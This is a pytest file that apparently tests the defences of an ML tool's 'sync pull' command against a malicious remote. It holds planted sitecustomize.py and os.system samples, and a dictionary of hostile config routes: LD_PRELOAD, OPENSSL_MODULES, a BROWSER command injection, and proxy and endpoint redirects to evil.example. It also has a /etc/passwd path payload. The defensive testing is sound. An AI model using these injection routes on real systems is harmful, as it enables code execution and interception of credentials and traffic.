"""A pull trusts nothing it pulls: only known files in known places, a config written
aside, never into a live series, every malformed object refused with a clean exit 1,
and nothing half-visible after a refusal or an interruption."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sync_helpers import Interrupt, finished_run, forge, remote_json, save_checkpoints, tree

from accel import Workspace
from accel.cli.main import main
from accel.sync import open_remote, pull

pytestmark = pytest.mark.timeout(120)
RUN = "20261129-150000-aaaaaa"
STEP = "checkpoints/default/step-000000000002"


@pytest.fixture
def pushed(ws: Workspace, remote_url: str) -> Workspace:
    save_checkpoints(ws, (1, 2))
    finished_run(ws, RUN)
    ws.cache.put("ns/blob", b"payload" * 100)
    assert main(["sync", "push", remote_url, "--include-cache"]) == 0
    return ws


@pytest.fixture
def fresh(ws: Workspace) -> Workspace:
    return Workspace(ws.path.parent / "clone" / ".accelerate")


def pull_cli(
    fresh: Workspace, url: str, capsys: pytest.CaptureFixture[str], *extra: str
) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["--workspace", str(fresh.path), "sync", "pull", url, *extra])
    return code, capsys.readouterr().err


# -- the attack: a remote that plants code for the next launch ---------------------------


@pytest.mark.slow
def test_a_remote_cannot_run_code_on_the_next_launch(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    accel_exe: list[str],
) -> None:
    """A planted sitecustomize.py, and a config whose template imports ``antigravity``
    (which runs ``$BROWSER``) with PYTHONPATH at the plant: nothing of it runs."""
    marker = fresh.path.parent / "pwned"
    planted = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n"
    forge(remote_dir, f"logs/runs/{RUN}/sitecustomize.py", planted.encode())
    config = (
        "version: 1\nlaunch:\n  preload: true\n  preload_modules: [antigravity]\n"
        f"  env:\n    PYTHONPATH: .accelerate/logs/runs/{RUN}\n"
        f"    BROWSER: 'touch {marker} %s'\n"
    )
    forge(remote_dir, "config/accelerate_config.yaml", config.encode())

    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config", "--yes")
    assert code == 1  # the plant is refused
    assert f"logs/runs/{RUN}/sitecustomize.py: refused: not a file accel writes" in err
    for key in ("launch.env", "launch.preload", "launch.preload_modules"):
        assert f"left out {key}: " in err
    assert "Traceback" not in err
    assert not (fresh.runs_dir / RUN / "sitecustomize.py").exists()
    assert (fresh.runs_dir / RUN / "run.json").is_file()  # the rest of the run came
    assert not fresh.config_file.exists()  # nothing it may carry: no config written

    script = fresh.path.parent / "t.py"
    script.write_text("print('trained')\n")
    done = subprocess.run(
        [*accel_exe, "--workspace", str(fresh.path), "launch", "--cpu", str(script)],
        cwd=fresh.path.parent,
        capture_output=True,
        text=True,
        timeout=90,
    )
    assert done.returncode == 0, done.stderr
    assert not marker.exists()


@pytest.mark.parametrize(
    ("rel", "reason"),
    [
        ("state.bin", "no part of a workspace that sync pulls"),
        ("scripts/evil.py", "no part of a workspace that sync pulls"),
        ("cache/frameworks/triton/x/kernel.py", "framework caches hold compiled code"),
        (f"logs/runs/{RUN}/stacks/evil.py", "not a file accel writes in a run folder"),
        ("logs/runs/not-a-run-id/run.json", "not in a run folder"),
        (f"{STEP}/sub/state.pt", "not a file of a checkpoint"),
        (f"{STEP}/libcrypto.so", "not a file of a checkpoint"),
        (f"{STEP}/sharded/openssl.cnf", "not a file of a checkpoint"),
        ("cache/entries/ns/blob.entry/deeper/x", "not a file of a cache entry"),
        # a hidden or lock name aborted the whole pull as "an unsafe path"
        (".envrc", "a hidden, temp or lock name"),
        ("locks/state.lock", "a hidden, temp or lock name"),
        (f"logs/runs/{RUN}/.accel-tmp-1-run.json", "a hidden, temp or lock name"),
        ("cache/entries/ns/blob.entry/meta.json.lock", "a hidden, temp or lock name"),
    ],
)
def test_unknown_files_and_places_are_refused_and_listed(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    rel: str,
    reason: str,
) -> None:
    forge(remote_dir, rel, b"import os; os.system('touch /tmp/pwned')\n")
    capsys.readouterr()
    argv = ["--workspace", str(fresh.path), "sync", "pull", remote_url, "--include-cache"]
    assert main([*argv, "--json"]) == 1
    refused = {r["unit"]: r["reason"] for r in json.loads(capsys.readouterr().out)["refused"]}
    assert reason in refused[rel], refused
    assert not (fresh.path / rel).exists() and not (fresh.runs_dir.parent / rel).exists()
    assert [c.step for c in fresh.checkpoints.list()] == [1, 2]  # the rest still came
    assert fresh.cache.get("ns/blob") == b"payload" * 100
    code, err = pull_cli(fresh, remote_url, capsys, "--include-cache")
    line = next(line for line in err.splitlines() if line.startswith(f"error: {rel}: refused: "))
    assert code == 1 and reason in line


def test_every_file_accel_writes_in_a_run_folder_is_pulled(
    ws: Workspace, fresh: Workspace, remote_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """launcher.log and a crash stack (stacks/rank-N.crash.txt) were refused before."""
    folder = finished_run(ws, RUN)
    (folder / "stacks").mkdir()
    names = ["launcher.log", "stacks/rank-0.crash.txt", "rank-0.log", "metrics.jsonl"]
    for name in names:
        (folder / name).write_text(f"{name}\n")
    assert main(["sync", "push", remote_url]) == 0
    code, err = pull_cli(fresh, remote_url, capsys)
    assert code == 0 and "refused" not in err, err
    for name in names:
        assert (fresh.runs_dir / RUN / name).read_text() == f"{name}\n"


# -- the config ---------------------------------------------------------------------------


def test_every_config_key_is_classified_for_a_pull() -> None:
    """A key new to the schema must be put on one side, deliberately; until then a pull
    leaves it out. Nothing carried can hold a path, an endpoint, free text or variables."""
    from accel.config.fields import BY_KEY, FIELDS
    from accel.sync._trust import CONFIG_CARRIED, CONFIG_KEPT, config_left_out

    for f in FIELDS:
        assert (f.key in CONFIG_CARRIED) != (f.key in CONFIG_KEPT), f.key
    assert set(CONFIG_CARRIED) | set(CONFIG_KEPT) == set(BY_KEY)
    assert not {BY_KEY[k].kind for k in CONFIG_CARRIED} & {"env", "path", "endpoint", "str"}
    assert "not on the list" in (config_left_out("launch.new_key") or "")


def test_a_pulled_config_goes_aside_and_applies_only_what_a_pull_may_carry(
    ws: Workspace,
    fresh: Workspace,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    ws.config_file.write_text(
        "version: 1\nlaunch:\n  num_processes: 4\n  env:\n    HF_TOKEN: theirs-secret-1\n"
        "    A: remote\nlogs:\n  level: debug\n"
    )
    assert main(["sync", "push", remote_url]) == 0
    fresh.ensure()
    fresh.config_file.write_text(
        "version: 1\n# mine\nlaunch:\n  env:\n    HF_TOKEN: mine-secret-2\n"
        "  max_restarts: 2\nlogs:\n  level: error\n"
    )
    mine = fresh.config_file.read_bytes()

    code, err = pull_cli(fresh, remote_url, capsys)
    assert code == 0 and fresh.config_file.read_bytes() == mine  # never replaced silently
    aside = fresh.config_file.with_name("accelerate_config.pulled.yaml")
    assert "theirs-secret-1" not in aside.read_text()  # the push uploaded it redacted
    assert "--apply-config" in err

    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config", "--yes")
    assert code == 0 and not aside.exists()
    assert "+  num_processes: 4" in err and "mine-secret-2" not in err
    assert "left out launch.env: environment variables choose code" in err
    applied = Workspace(fresh.path).config
    assert applied["launch.num_processes"] == 4 and applied["logs.level"] == "debug"
    assert applied["launch.max_restarts"] == 0  # the remote leaves it at its default
    assert applied["launch.env"] == {"HF_TOKEN": "mine-secret-2"}  # the local value stays
    assert "# mine" in fresh.config_file.read_text()  # the local file, edited


@pytest.mark.parametrize(
    "env",
    [
        "  env:\n    HF_TOKEN: theirs-secret-4  # the token\n",
        # what `accel config set launch.env HF_TOKEN=x` writes: flow style, whose bare ***
        # made the uploaded file invalid YAML (an alias), and every pull refused it
        "  env: {HF_TOKEN: theirs-secret-4, A: '1'}\n",
        "  env: {A: '1', HF_TOKEN: theirs-secret-4}\n",
    ],
)
def test_the_uploaded_config_hides_its_secrets_and_still_applies(
    ws: Workspace, fresh: Workspace, remote_url: str, capsys: pytest.CaptureFixture[str], env: str
) -> None:
    ws.config_file.write_text(f"version: 1\nlaunch:\n  num_processes: 3\n{env}")
    assert main(["sync", "push", remote_url]) == 0
    fresh.ensure()
    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config", "--yes")
    assert code == 0, err
    assert (
        "theirs-secret-4" not in err and Workspace(fresh.path).config["launch.num_processes"] == 3
    )


def test_a_pulled_config_is_written_private(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The remote's config may hold its launch.env tokens (another accel, or a person,
    wrote them there): the copy aside is readable by its owner only, whatever the umask."""
    import stat

    remote = "version: 1\nlaunch:\n  env:\n    HF_TOKEN: theirs-secret-3\n"
    forge(remote_dir, "config/accelerate_config.yaml", remote.encode())
    old = os.umask(0o022)
    try:
        code, err = pull_cli(fresh, remote_url, capsys)
    finally:
        os.umask(old)
    assert code == 0, err
    aside = fresh.config_file.with_name("accelerate_config.pulled.yaml")
    assert "theirs-secret-3" in aside.read_text()  # as the remote holds it: a secret on disk
    assert stat.S_IMODE(aside.stat().st_mode) == 0o600


LOCAL = (
    "version: 1\nlaunch:\n  env:\n    A: mine\n  rdzv_endpoint: 10.0.0.1:29500\n  gpu_ids: [0]\n"
)
ATTACKS = {  # the routes of issue 22: each one a remote's config
    "openssl": "  env:\n    OPENSSL_CONF: .accelerate/cache/entries/x.entry/ssl.cnf\n"
    "    OPENSSL_MODULES: .accelerate/checkpoints/default/step-000000000002/\n",
    "antigravity": "  preload: true\n  preload_modules: [antigravity]\n"
    "  env:\n    BROWSER: 'touch PWNED %s'\n",
    "hf-endpoint": "  env:\n    HF_ENDPOINT: http://evil.example\n",
    "wandb": "  env:\n    WANDB_BASE_URL: http://evil.example\n",
    "proxy": "  env:\n    HTTPS_PROXY: http://evil.example:3128\n"
    "    SSL_CERT_FILE: /tmp/evil.pem\n    REQUESTS_CA_BUNDLE: /tmp/evil.pem\n",
    "nccl": "  env:\n    NCCL_NET_PLUGIN: /tmp/evil.so\n",
    "keylog": "  env:\n    SSLKEYLOGFILE: /tmp/keys.log\n",
    "ld-preload": "  env:\n    LD_PRELOAD: /tmp/x.so\n    PYTHONPATH: /tmp\n",
    "rendezvous": "  rdzv_endpoint: evil.example:29500\n  rdzv_id: theirs\n  machine_rank: 3\n",
    "compile": "  dynamo_backend: evil_backend\n  gpu_ids: [7]\n",
    "hub-cache": "  num_processes: 1\ncache:\n  framework_caches: [torch_hub, hf]\n",
    "workspace": "  num_processes: 1\nworkspace:\n  path: /home/victim\n",
}


@pytest.mark.parametrize("route", sorted(ATTACKS))
def test_a_pulled_config_never_brings_code_endpoints_or_paths(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    route: str,
) -> None:
    from accel.sync._trust import CONFIG_CARRIED

    remote = f"version: 1\nlogs:\n  level: debug\nlaunch:\n{ATTACKS[route]}"
    forge(remote_dir, "config/accelerate_config.yaml", remote.encode())
    fresh.ensure()
    fresh.config_file.write_text(LOCAL)
    before = dict(Workspace(fresh.path).config.values)

    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config", "--yes")
    assert code == 0, err
    after = dict(Workspace(fresh.path).config.values)
    assert after["logs.level"] == "debug"  # what it may carry, it carries
    kept = {k: v for k, v in before.items() if k not in CONFIG_CARRIED}
    assert kept == {k: v for k, v in after.items() if k not in CONFIG_CARRIED}
    assert "left out " in err and "the local value stays" in err and "Traceback" not in err


def test_carried_values_are_written_as_a_person_writes_them() -> None:
    from accel.sync.pulled import merge

    pulled = (
        "version: 1\nlaunch:\n  stop_grace_period: 30s\n  env: {X: y}\n"
        "cache:\n  max_size: 10GiB\ncheckpoints:\n  keep_last: null\n"
    )
    local = "version: 1\n# mine\nlaunch:\n  env:\n    A: b\nlogs:\n  level: debug\n"
    change = merge(pulled, "remote", local, "local")
    assert "stop_grace_period: 30s" in change.after and "max_size: 10GiB" in change.after
    assert "# mine" in change.after and "level" not in change.after  # the remote's default
    assert change.values["launch.env"] == {"A": "b"}
    assert [k for k, _ in change.left_out] == ["launch.env"]


def test_nothing_is_applied_when_a_file_changed_since_it_was_shown(fresh: Workspace) -> None:
    from accel.errors import UsageError
    from accel.sync.pulled import apply_pulled, plan_pulled, pulled_path

    fresh.ensure()
    fresh.config_file.write_text("version: 1\n")
    pulled_path(fresh).write_text("version: 1\nlogs:\n  level: debug\n")
    change = plan_pulled(fresh)
    assert change is not None and not change.empty
    fresh.config_file.write_text("version: 1\nlaunch:\n  num_processes: 2\n")  # meanwhile
    with pytest.raises(UsageError, match="changed since the difference was shown"):
        apply_pulled(fresh, change)
    assert fresh.config_file.read_text() == "version: 1\nlaunch:\n  num_processes: 2\n"
    assert pulled_path(fresh).is_file()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("launch:\n  num_processes: " + "9" * 400 + "\n", "not valid"),
        ("launch: [" * 100 + "\n", "not valid"),
    ],
)
def test_a_config_that_is_not_valid_is_refused(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    text: str,
    reason: str,
) -> None:
    forge(remote_dir, "config/accelerate_config.yaml", ("version: 1\n" + text).encode())
    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config", "--yes")
    assert code == 1 and reason in err and "unexpected" not in err
    assert not list(fresh.config_file.parent.glob("*.yaml"))


def test_apply_config_without_a_terminal_needs_yes(
    pushed: Workspace, fresh: Workspace, remote_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config")
    assert code == 2 and err.count("\n") == 1 and "pass --yes" in err
    assert not fresh.exists or not fresh.checkpoints.list()  # nothing pulled


@pytest.mark.parametrize("answer", [False, True])
def test_apply_config_on_a_terminal_asks_first(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    answer: bool,
) -> None:
    import typer

    from accel.cli import sync as cli_sync

    forge(remote_dir, "config/accelerate_config.yaml", b"version: 1\nlogs:\n  level: debug\n")
    asked: list[str] = []
    monkeypatch.setattr(cli_sync, "_terminal", lambda: True)
    monkeypatch.setattr(typer, "confirm", lambda text, **_: asked.append(text) or answer)
    code, err = pull_cli(fresh, remote_url, capsys, "--apply-config")
    assert asked and "+  level: debug" in err
    aside = fresh.config_file.with_name("accelerate_config.pulled.yaml")
    if answer:
        assert code == 0 and Workspace(fresh.path).config["logs.level"] == "debug"
        assert not aside.exists()
    else:
        assert code == 1 and "nothing applied" in err
        assert not fresh.config_file.exists() and aside.is_file()


# -- malformed objects --------------------------------------------------------------------


def _manifest_without(remote_dir: Path, key: str) -> None:
    manifest = remote_json(remote_dir, f"{STEP}/manifest.json")
    del manifest[key]
    forge(remote_dir, f"{STEP}/manifest.json", json.dumps(manifest).encode())


def _manifest_of_series(remote_dir: Path, series: str) -> None:
    manifest = remote_json(remote_dir, f"{STEP}/manifest.json")
    manifest["series"] = series
    forge(remote_dir, f"{STEP}/manifest.json", json.dumps(manifest).encode())


def _listed_in_manifest(remote_dir: Path, name: str) -> None:
    """A library planted beside a checkpoint and listed in its manifest (issue 22:
    ``OPENSSL_MODULES`` pointed at one), checksums and all."""
    import xxhash

    data = b"\x7fELF planted"
    forge(remote_dir, f"{STEP}/{name}", data)
    manifest = remote_json(remote_dir, f"{STEP}/manifest.json")
    digest = f"xxh3_64:{xxhash.xxh3_64(data).hexdigest()}"
    manifest["files"][name] = {"size": len(data), "checksum": digest}
    forge(remote_dir, f"{STEP}/manifest.json", json.dumps(manifest).encode())


def _cache_meta(remote_dir: Path, **changes: object) -> None:
    rel = "cache/entries/ns/blob.entry/meta.json"
    forge(remote_dir, rel, json.dumps({**remote_json(remote_dir, rel), **changes}).encode())


@pytest.mark.parametrize(
    ("damage", "unit", "message"),
    [
        (lambda d: _manifest_without(d, "created"), STEP, "not one accel can read"),
        (lambda d: _manifest_of_series(d, "other"), STEP, "names the series 'other'"),
        (lambda d: _listed_in_manifest(d, "libcrypto.so"), STEP, "not a file accel writes"),
        (lambda d: _listed_in_manifest(d, "sharded/ossl.so"), STEP, "not a file accel writes"),
        (lambda d: _cache_meta(d, payload="/etc/passwd"), "cache/entries/ns/blob.entry", "payload"),
        (lambda d: _cache_meta(d, payload="../../x"), "cache/entries/ns/blob.entry", "payload"),
        (lambda d: _cache_meta(d, key="other"), "cache/entries/ns/blob.entry", "for the key"),
        (lambda d: _cache_meta(d, size=-1), "cache/entries/ns/blob.entry", "no size and checksum"),
        (lambda d: _cache_meta(d, size=3), "cache/entries/ns/blob.entry", "does not match"),
        (
            lambda d: forge(d, f"logs/runs/{RUN}/run.json", b"[" * 100000),
            f"logs/runs/{RUN}",
            "not JSON",
        ),
        (
            lambda d: forge(d, f"logs/runs/{RUN}/run.json", b'{"id": "x"}'),
            f"logs/runs/{RUN}",
            "not the record",
        ),
        (lambda d: forge(d, f"logs/runs/{RUN}/run.json", None), f"logs/runs/{RUN}", "no run.json"),
    ],
)
def test_a_malformed_unit_is_refused_and_nothing_of_it_is_visible(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    damage: object,
    unit: str,
    message: str,
) -> None:
    damage(remote_dir)  # type: ignore[operator]
    code, err = pull_cli(fresh, remote_url, capsys, "--include-cache")
    assert code == 1, err
    line = next(line for line in err.splitlines() if line.startswith(f"error: {unit}:"))
    assert message in line and "refused" in line, err
    assert line.count(unit) == 1, line  # 'error: <unit>: <unit>: its manifest ...'
    assert "unexpected" not in err and "Traceback" not in err
    assert [c.step for c in fresh.checkpoints.list()] == ([1] if unit == STEP else [1, 2])
    assert fresh.cache.get("ns/blob") == (None if "cache" in unit else b"payload" * 100)
    assert any(fresh.runs_dir.iterdir()) == ("runs" not in unit)
    assert not [p for p in tree(fresh.path) if p.startswith(("tmp/", "checkpoints/default/.tmp"))]
    assert main(["--workspace", str(fresh.path), "runs", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [r["status"] for r in listed] == ([] if "runs" in unit else ["succeeded"])


@pytest.mark.parametrize(
    ("checksum", "message"),
    [
        ("shake_128:" + "0" * 32, "unknown checksum algorithm 'shake_128'"),
        ("xxh3_64:zz", "is not 16 hex digits"),
        ("md4:" + "0" * 32, "unknown checksum algorithm 'md4'"),
        (12, "damaged"),
    ],
)
def test_a_malformed_index_is_refused_with_a_clean_exit_1(
    pushed: Workspace,
    fresh: Workspace,
    remote_dir: Path,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    checksum: object,
    message: str,
) -> None:
    index = json.loads((remote_dir / "accel-sync.json").read_text())
    index["files"][f"{STEP}/manifest.json"]["checksum"] = checksum
    (remote_dir / "accel-sync.json").write_text(json.dumps(index))
    code, err = pull_cli(fresh, remote_url, capsys)
    assert code == 1 and message in err and len(err.strip().splitlines()) == 1, err
    assert not fresh.exists


# -- a live series, an interrupted pull ---------------------------------------------------

HOLD = """
import sys, time
from accel import Workspace
from accel.store.lease import SeriesLease
lease = SeriesLease(Workspace(sys.argv[1]).layout, "default", run_id="20261130-120000-abcdef").acquire()
print("held", flush=True)
time.sleep(60)
"""


@pytest.mark.slow
def test_pull_never_writes_into_a_series_a_live_run_holds(
    pushed: Workspace,
    fresh: Workspace,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    fresh.ensure()
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(fresh.path)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        code, err = pull_cli(fresh, remote_url, capsys)
        assert code == 1
        lines = [line for line in err.splitlines() if "checkpoints/default" in line]
        assert len(lines) == 1 and "20261130-120000-abcdef" in lines[0], err
        assert not (fresh.checkpoints_dir / "default").exists()
        assert (fresh.runs_dir / RUN / "run.json").is_file()  # other units still came
    finally:
        holder.kill()
        holder.wait()
    code, _ = pull_cli(fresh, remote_url, capsys)
    assert code == 0 and [c.step for c in fresh.checkpoints.list()] == [1, 2]


def test_an_interrupted_run_pull_leaves_no_run_listed_as_crashed(
    ws: Workspace, fresh: Workspace, remote_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = finished_run(ws, RUN)
    (folder / "rank-0.log").write_text("line\n" * 5000)
    assert main(["sync", "push", remote_url]) == 0
    config_size = ws.config_file.stat().st_size
    with pytest.raises(KeyboardInterrupt):
        pull(fresh, open_remote(remote_url, {}, os.environ), reporter=Interrupt(config_size + 10))
    assert not fresh.runs_dir.exists() or not any(fresh.runs_dir.iterdir())
    assert not any(fresh.tmp_dir.iterdir())
    capsys.readouterr()
    assert main(["--workspace", str(fresh.path), "runs", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_a_pull_killed_mid_file_leaves_a_temp_that_clean_knows(
    ws: Workspace,
    fresh: Workspace,
    remote_url: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # a pull downloads the config aside, and a file a run folder here lacks, to a temp
    # file beside it: named `.accel-tmp-` + 12 characters, not the 8 of every other
    # temp, so a SIGKILLed pull's was "not made by accel" to `accel clean`: the run
    # folder was kept for good (a foreign file in it) and one in config/ never went
    import time

    from accel.clean import clean
    from accel.layout import is_atomic_temp
    from accel.sync import _remote

    folder = finished_run(ws, RUN)
    assert main(["sync", "push", remote_url]) == 0
    assert main(["--workspace", str(fresh.path), "sync", "pull", remote_url]) == 0
    (fresh.runs_dir / RUN / "rank-0.log").unlink()  # the next pull adds it to the folder
    names: list[str] = []
    download = _remote.Remote.download

    def recording(self: _remote.Remote, rel: str, dest: Path, *args: object, **kw: object) -> None:
        names.append(dest.name)
        download(self, rel, dest, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(_remote.Remote, "download", recording)
    ws.config_file.write_text("version: 1\nlaunch:\n  num_processes: 3\n")  # goes aside
    assert main(["sync", "push", remote_url]) == 0
    capsys.readouterr()
    assert main(["--workspace", str(fresh.path), "sync", "pull", remote_url]) == 0
    assert len(names) == 2 and all(is_atomic_temp(name) for name in names), names
    # what a SIGKILL between the download and the rename leaves: clean's to collect
    left = [fresh.runs_dir / RUN / names[0], fresh.path / "config" / names[1]]
    for path in left:
        path.write_text("half")
        os.utime(path, (time.time() - 3600,) * 2)
    outcome = clean(fresh, older_than="0s", only=["runs", "cache"])
    assert not (fresh.runs_dir / RUN).exists() and not left[1].exists()
    assert not outcome.plan.kept, outcome.plan.kept
    assert folder.exists()  # the pushed side is not touched
